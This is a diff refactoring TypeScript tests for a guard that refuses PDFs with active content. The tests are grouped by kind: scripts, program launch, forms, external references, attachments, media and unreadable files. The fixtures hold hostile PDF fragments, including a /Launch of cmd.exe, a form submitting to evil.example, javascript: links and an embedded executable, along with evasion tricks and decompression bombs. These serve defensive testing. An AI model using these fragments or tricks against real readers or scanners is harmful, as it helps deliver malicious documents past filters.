@@ -17,192 +17,120 @@ const annotation = (entries: string): Buffer =>
 const packed = (objects: readonly string[], packing?: 'plain' | 'predicted'): Buffer =>
   pdfWith({ catalog: '/OpenAction 10 0 R', more: [objectStream(objects, packing)] });
 
+/** Tests that a file with any of these is refused for this. */
+const refuses = (found: ActiveContent, files: readonly (readonly [what: string, content: Buffer])[]) =>
+  test.each(files)('GUARD-10 %s', async (_what, content) => {
+    expect(await refusalOf(content)).toEqual(active(found));
+  });
+
 describe('GUARD-10 active content is refused', () => {
-  test.each<readonly [string, ActiveContent, () => Buffer]>([
-    ['a script when it is opened', 'pdf-script', () => openAction(script)],
+  refuses('pdf-script', [
+    ['a script when it is opened', openAction(script)],
     [
       'a script in the list of names',
-      'pdf-script',
-      () => pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
+      pdfWith({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
     ],
     [
       'a script in the list of names, elsewhere in the file',
-      'pdf-script',
-      () => pdfWith({ catalog: '/Names << /JavaScript 4 0 R >>' }),
+      pdfWith({ catalog: '/Names << /JavaScript 4 0 R >>' }),
     ],
-    ['a script when a page is turned', 'pdf-script', () => pdfWith({ onPage: `/AA << /O ${script} >>` })],
-    [
-      'a script of a form field',
-      'pdf-script',
-      () => annotation(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`),
-    ],
-    [
-      'a script after another act',
-      'pdf-script',
-      () => openAction(`<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`),
-    ],
+    ['a script when a page is turned', pdfWith({ onPage: `/AA << /O ${script} >>` })],
+    ['a script of a form field', annotation(`/Subtype /Widget /FT /Tx /AA << /K ${script} >>`)],
+    ['a script after another act', openAction(`<< /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>`)],
     [
       'a script by reference',
-      'pdf-script',
-      () => pdfWith({ catalog: '/OpenAction 4 0 R', more: ['<< /S 5 0 R /X 6 0 R >>', '/JavaScript'] }),
+      pdfWith({ catalog: '/OpenAction 4 0 R', more: ['<< /S 5 0 R /X 6 0 R >>', '/JavaScript'] }),
     ],
-    ['a script, its name in numbers', 'pdf-script', () => openAction('<< /S /#4a#61vaScript >>')],
-    [
-      'a script, its key in numbers',
-      'pdf-script',
-      () => openAction('<< /S /A#20B /J#53 (app.alert\\(1\\)) >>'),
-    ],
-    ['a script between comments', 'pdf-script', () => openAction('<</S%)>>\n/JavaScript%\r/X(1)>>')],
-    [
-      'a script behind a string of brackets',
-      'pdf-script',
-      () => openAction('<< /T (a\\)(b)\\\\) /S /JavaScript >>'),
-    ],
+    ['a script, its name in numbers', openAction('<< /S /#4a#61vaScript >>')],
+    ['a script, its key in numbers', openAction('<< /S /A#20B /J#53 (app.alert\\(1\\)) >>')],
+    ['a script between comments', openAction('<</S%)>>\n/JavaScript%\r/X(1)>>')],
+    ['a script behind a string of brackets', openAction('<< /T (a\\)(b)\\\\) /S /JavaScript >>')],
     [
       'a script in a version that was replaced',
-      'pdf-script',
-      () =>
-        Buffer.concat([
-          openAction(script),
-          pdfOfText('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
-        ]),
+      Buffer.concat([openAction(script), pdfOfText('1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n')]),
     ],
-    ['a script in a packed object', 'pdf-script', () => packed([script])],
-    [
-      'a script in a packed object that is not deflated',
-      'pdf-script',
-      () => packed(['<< >>', script], 'plain'),
-    ],
-    [
-      'a script in a packed object with a predictor',
-      'pdf-script',
-      () => packed(['<< >>', script], 'predicted'),
-    ],
+    ['a script in a packed object', packed([script])],
+    ['a script in a packed object that is not deflated', packed(['<< >>', script], 'plain')],
+    ['a script in a packed object with a predictor', packed(['<< >>', script], 'predicted')],
     [
       'a script in a stream that does not say it packs objects',
-      'pdf-script',
-      () => pdfWith({ more: [objectStream([script]).replace('/Type /ObjStm', '')] }),
+      pdfWith({ more: [objectStream([script]).replace('/Type /ObjStm', '')] }),
     ],
     [
       'a script in a packed object in a string of another',
-      'pdf-script',
-      () => pdfWith({ more: [streamOf('/Type /ObjStm /N 1 /First 5', `10 1 (${script})`)] }),
+      pdfWith({ more: [streamOf('/Type /ObjStm /N 1 /First 5', `10 1 (${script})`)] }),
     ],
     [
       'a script where the table of places may point to, inside a stream',
-      'pdf-script',
-      () => pdfWith({ more: [streamOf('', `9 0 obj ${script} endobj`)] }),
+      pdfWith({ more: [streamOf('', `9 0 obj ${script} endobj`)] }),
     ],
     [
       'a script where the table of places may point to, inside a string',
-      'pdf-script',
-      () => pdfWith({ more: [`(9 0 obj ${script} endobj)`] }),
+      pdfWith({ more: [`(9 0 obj ${script} endobj)`] }),
     ],
-    [
-      'a script in a dictionary that readers mend',
-      'pdf-script',
-      () => openAction('<< /A /B 5 /S /JavaScript >>'),
-    ],
-    [
-      'a script in brackets that do not match',
-      'pdf-script',
-      () => openAction('<< /A [1 2 >> /S /JavaScript >>'),
-    ],
-    ['a script in the trailer', 'pdf-script', () => pdfOfText('', `/OpenAction ${script}`)],
-    ['a program', 'pdf-program', () => openAction('<< /S /Launch /F (cmd.exe) >>')],
-    [
-      'a form that is sent',
-      'pdf-form',
-      () => annotation('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>'),
-    ],
-    ['a form that fetches data', 'pdf-form', () => openAction('<< /S /ImportData /F (a.fdf) >>')],
-    ['a form of its own making (XFA)', 'pdf-form', () => pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
-    [
-      'a file in the network',
-      'pdf-elsewhere',
-      () => openAction('<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit] >>'),
-    ],
-    ['a file inside another', 'pdf-elsewhere', () => openAction('<< /S /GoToE /D [0 /Fit] >>')],
-    [
-      'a link to a file',
-      'pdf-elsewhere',
-      () => annotation('/Subtype /Link /A << /S /URI /URI (file://server/a) >>'),
-    ],
+    ['a script in a dictionary that readers mend', openAction('<< /A /B 5 /S /JavaScript >>')],
+    ['a script in brackets that do not match', openAction('<< /A [1 2 >> /S /JavaScript >>')],
+    ['a script in the trailer', pdfOfText('', `/OpenAction ${script}`)],
+  ]);
+
+  refuses('pdf-program', [['a program', openAction('<< /S /Launch /F (cmd.exe) >>')]]);
+
+  refuses('pdf-form', [
+    ['a form that is sent', annotation('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>')],
+    ['a form that fetches data', openAction('<< /S /ImportData /F (a.fdf) >>')],
+    ['a form of its own making (XFA)', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
+  ]);
+
+  refuses('pdf-elsewhere', [
+    ['a file in the network', openAction('<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) /D [0 /Fit] >>')],
+    ['a file inside another', openAction('<< /S /GoToE /D [0 /Fit] >>')],
+    ['a link to a file', annotation('/Subtype /Link /A << /S /URI /URI (file://server/a) >>')],
     [
       'a link to a file in UTF-16',
-      'pdf-elsewhere',
-      () => annotation('/Subtype /Link /A << /S /URI /URI <FEFF005c005c0073005c0061> >>'),
+      annotation('/Subtype /Link /A << /S /URI /URI <FEFF005c005c0073005c0061> >>'),
     ],
     [
       'a link that is a script',
-      'pdf-elsewhere',
-      () => annotation('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>'),
+      annotation('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>'),
     ],
-    [
-      'a link to the network, packed',
-      'pdf-elsewhere',
-      () => packed(['<< /S /URI /URI (\\\\\\\\server\\\\a) >>']),
-    ],
+    ['a link to the network, packed', packed(['<< /S /URI /URI (\\\\\\\\server\\\\a) >>'])],
     [
       'a link to the network behind a word',
-      'pdf-elsewhere',
-      () => annotation('/Subtype /Link /A << /S /URI /URI (a\\\\\\\\server\\\\a) >>'),
+      annotation('/Subtype /Link /A << /S /URI /URI (a\\\\\\\\server\\\\a) >>'),
     ],
-    [
-      'a link by reference to nothing',
-      'pdf-elsewhere',
-      () => annotation('/Subtype /Link /A << /S /URI /URI 4 0 R >>'),
-    ],
-    [
-      'the network before every link',
-      'pdf-elsewhere',
-      () => pdfWith({ catalog: '/URI << /Base (\\\\\\\\server\\\\a) >>' }),
-    ],
-    ['a file by its place', 'pdf-elsewhere', () => pdfWith({ more: ['<< /Type /Filespec /F (a.pdf) >>'] })],
-    [
-      'a file by its place, as some write it',
-      'pdf-elsewhere',
-      () => pdfWith({ more: ['<< /Type /FileSpec /F (a.pdf) >>'] }),
-    ],
-    [
-      'a stream that lies in another file',
-      'pdf-elsewhere',
-      () => pdfWith({ more: [streamOf('/F (\\\\\\\\server\\\\a)', '')] }),
-    ],
+    ['a link by reference to nothing', annotation('/Subtype /Link /A << /S /URI /URI 4 0 R >>')],
+    ['the network before every link', pdfWith({ catalog: '/URI << /Base (\\\\\\\\server\\\\a) >>' })],
+    ['a file by its place', pdfWith({ more: ['<< /Type /Filespec /F (a.pdf) >>'] })],
+    ['a file by its place, as some write it', pdfWith({ more: ['<< /Type /FileSpec /F (a.pdf) >>'] })],
+    ['a stream that lies in another file', pdfWith({ more: [streamOf('/F (\\\\\\\\server\\\\a)', '')] })],
+  ]);
+
+  refuses('pdf-attachment', [
     [
       'a file in the list of names',
-      'pdf-attachment',
-      () =>
-        pdfWith({
-          catalog: '/Names << /EmbeddedFiles 4 0 R >>',
-          more: ['<< /Names [(a.exe) << /F (a.exe) /EF << /F 5 0 R >> >>] >>', streamOf('', 'MZ')],
-        }),
+      pdfWith({
+        catalog: '/Names << /EmbeddedFiles 4 0 R >>',
+        more: ['<< /Names [(a.exe) << /F (a.exe) /EF << /F 5 0 R >> >>] >>', streamOf('', 'MZ')],
+      }),
     ],
-    [
-      'a file',
-      'pdf-attachment',
-      () => pdfWith({ more: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] }),
-    ],
-    [
-      'the bytes of a file',
-      'pdf-attachment',
-      () => pdfWith({ more: [streamOf('/Type /EmbeddedFile', 'MZ')] }),
-    ],
-    ['a file pinned to a page', 'pdf-attachment', () => annotation('/Subtype /FileAttachment /FS 4 0 R')],
-    ['a folder of files', 'pdf-attachment', () => pdfWith({ catalog: '/Collection << /View /D >>' })],
-    ['rich media', 'pdf-media', () => annotation('/Subtype /RichMedia')],
-    ['a film', 'pdf-media', () => annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
-    ['a film of the newer kind', 'pdf-media', () => openAction('<< /S /Rendition /OP 0 >>')],
-    ['a sound', 'pdf-media', () => openAction('<< /S /Sound /Sound 4 0 R >>')],
-    ['rich media that is set going', 'pdf-media', () => openAction('<< /S /RichMediaExecute /TA 4 0 R >>')],
-    ['rich media by its content', 'pdf-media', () => annotation('/Subtype /Text /RichMediaContent 4 0 R')],
-    ['a screen for media', 'pdf-media', () => annotation('/Subtype /Screen')],
-    ['a view of a 3D model', 'pdf-media', () => openAction('<< /S /GoTo3DView /TA 4 0 R >>')],
-    ['a 3D model by its stream', 'pdf-media', () => annotation('/Subtype /Text /3DD 4 0 R')],
-    ['a 3D model', 'pdf-media', () => annotation('/Subtype /3D /3DD 4 0 R')],
-  ])('GUARD-10 %s', async (_what, found, content) => {
-    expect(await refusalOf(content())).toEqual(active(found));
-  });
+    ['a file', pdfWith({ more: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] })],
+    ['the bytes of a file', pdfWith({ more: [streamOf('/Type /EmbeddedFile', 'MZ')] })],
+    ['a file pinned to a page', annotation('/Subtype /FileAttachment /FS 4 0 R')],
+    ['a folder of files', pdfWith({ catalog: '/Collection << /View /D >>' })],
+  ]);
+
+  refuses('pdf-media', [
+    ['rich media', annotation('/Subtype /RichMedia')],
+    ['a film', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
+    ['a film of the newer kind', openAction('<< /S /Rendition /OP 0 >>')],
+    ['a sound', openAction('<< /S /Sound /Sound 4 0 R >>')],
+    ['rich media that is set going', openAction('<< /S /RichMediaExecute /TA 4 0 R >>')],
+    ['rich media by its content', annotation('/Subtype /Text /RichMediaContent 4 0 R')],
+    ['a screen for media', annotation('/Subtype /Screen')],
+    ['a view of a 3D model', openAction('<< /S /GoTo3DView /TA 4 0 R >>')],
+    ['a 3D model by its stream', annotation('/Subtype /Text /3DD 4 0 R')],
+    ['a 3D model', annotation('/Subtype /3D /3DD 4 0 R')],
+  ]);
 
   test.each(['', '-rc4-128', '-aes-128', '-aes-256-r5', '-aes-256'])(
     'GUARD-10 a script that qpdf packed%s, though the file opens without a password',
@@ -221,45 +149,40 @@ describe('GUARD-10 what cannot be checked is refused, in bounded time', () => {
   const packing = (entries: string, bytes: Buffer | string): Buffer =>
     pdfWith({ more: [streamOf(`/Type /ObjStm ${entries}`, bytes)] });
 
-  test.each<readonly [string, () => Buffer]>([
-    ['packed objects that fill the memory', () => packing('/N 1 /First 4 /Filter /FlateDecode', bomb)],
+  refuses('pdf-unreadable', [
+    ['packed objects that fill the memory', packing('/N 1 /First 4 /Filter /FlateDecode', bomb)],
     [
       'packed objects that are not deflated as said',
-      () => packing('/N 1 /First 4 /Filter /FlateDecode', '1 0 <<>>'),
+      packing('/N 1 /First 4 /Filter /FlateDecode', '1 0 <<>>'),
     ],
     [
       'packed objects in a packing that nobody uses for them',
-      () => packing('/N 1 /First 4 /Filter /LZWDecode', 'x'),
+      packing('/N 1 /First 4 /Filter /LZWDecode', 'x'),
     ],
-    [
-      'packed objects packed twice',
-      () => packing('/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', 'x'),
-    ],
-    ['packed objects whose number stands elsewhere', () => packing('/N 2 0 R /First 4', '1 0 <<>>')],
-    ['packed objects that begin at two places', () => packing('/N 1 /First 4 /First 9', '1 0 <<>>')],
+    ['packed objects packed twice', packing('/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', 'x')],
+    ['packed objects whose number stands elsewhere', packing('/N 2 0 R /First 4', '1 0 <<>>')],
+    ['packed objects that begin at two places', packing('/N 1 /First 4 /First 9', '1 0 <<>>')],
     [
       'packed objects that readers mend',
-      () => pdfWith({ more: [objectStream([script]).replace('/Type', '/A /B 5 /Type')] }),
+      pdfWith({ more: [objectStream([script]).replace('/Type', '/A /B 5 /Type')] }),
     ],
-    ['packed objects whose list is no list', () => packing('/N 3 /First 4', '1 0 <<>>')],
-    ['packed objects without end', () => packing('/N 99999999 /First 4', '1 0 <<>>')],
+    ['packed objects whose list is no list', packing('/N 3 /First 4', '1 0 <<>>')],
+    ['packed objects without end', packing('/N 99999999 /First 4', '1 0 <<>>')],
     [
       'a row of a predictor wider than what it predicts',
-      () =>
-        packing(
-          '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9999999999 >>',
-          deflateSync(Buffer.from('1 0 <<>>')),
-        ),
+
+      packing(
+        '/N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 9999999999 >>',
+        deflateSync(Buffer.from('1 0 <<>>')),
+      ),
     ],
-    ['lists in lists without end', () => pdfWith({ more: ['['.repeat(10_000)] })],
-    ['an object without end', () => pdfWith({ more: [`(${'a'.repeat(5_000_000)}`] })],
+    ['lists in lists without end', pdfWith({ more: ['['.repeat(10_000)] })],
+    ['an object without end', pdfWith({ more: [`(${'a'.repeat(5_000_000)}`] })],
     [
       'objects that lie in one another',
-      () => pdfWith({ more: ['1 0 obj [ '.repeat(60).concat('1 0 obj ('.repeat(300_000))] }),
+      pdfWith({ more: ['1 0 obj [ '.repeat(60).concat('1 0 obj ('.repeat(300_000))] }),
     ],
-  ])('GUARD-10 %s', async (_what, content) => {
-    expect(await refusalOf(content())).toEqual(active('pdf-unreadable'));
-  });
+  ]);
 });
 
 test('GUARD-10 the refusal says what was found and how to make a clean file', () => {
